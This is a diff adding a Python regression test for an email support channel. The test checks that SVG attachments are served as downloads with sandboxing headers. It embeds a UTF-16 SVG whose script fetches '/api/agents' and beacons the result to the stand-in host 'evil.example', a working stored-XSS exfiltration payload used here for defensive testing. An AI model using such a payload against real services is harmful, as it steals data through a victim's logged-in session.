@@ -249,3 +249,34 @@ def test_email_replay_unknown_recipient_and_bad_body(channels):
     assert resp.status_code == 400
     channels.settle()
     assert len(channels.messages()) == 1
+
+
+_SVG = (
+    '<?xml version="1.0" encoding="UTF-16"?>'
+    '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/api/agents")'
+    ".then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example/',t))"
+    "</script></svg>"
+).encode("utf-16")
+
+
+def test_a_contacts_svg_attachment_downloads_and_runs_nothing(channels):
+    """UTF-16 text tells the sniffer nothing, so the sender's image/svg+xml is kept: served
+    inline from the API's origin, its script ran with the agent's session cookie."""
+    msg = EmailMessage()
+    msg["From"] = "Mallory <mallory@evil.example>"
+    msg["To"] = "support@acme.example"
+    msg["Subject"] = "Our logo"
+    msg["Message-ID"] = "<svg-xss@evil.example>"
+    msg.set_content("See attached")
+    msg.add_attachment(_SVG, maintype="image", subtype="svg+xml", filename="logo.svg")
+    account = channels.account("email")
+    assert channels.post_email(account, msg.as_bytes()).status_code == 200
+    channels.settle()
+    [attachment] = channels.message("<svg-xss@evil.example>").attachments
+
+    got = channels.ws.call("GET", f"/api/media/{attachment['media_id']}")
+
+    assert got.status_code == 200 and got.content == _SVG
+    assert got.headers["Content-Disposition"].startswith("attachment;")
+    assert got.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
+    assert got.headers["X-Content-Type-Options"] == "nosniff"
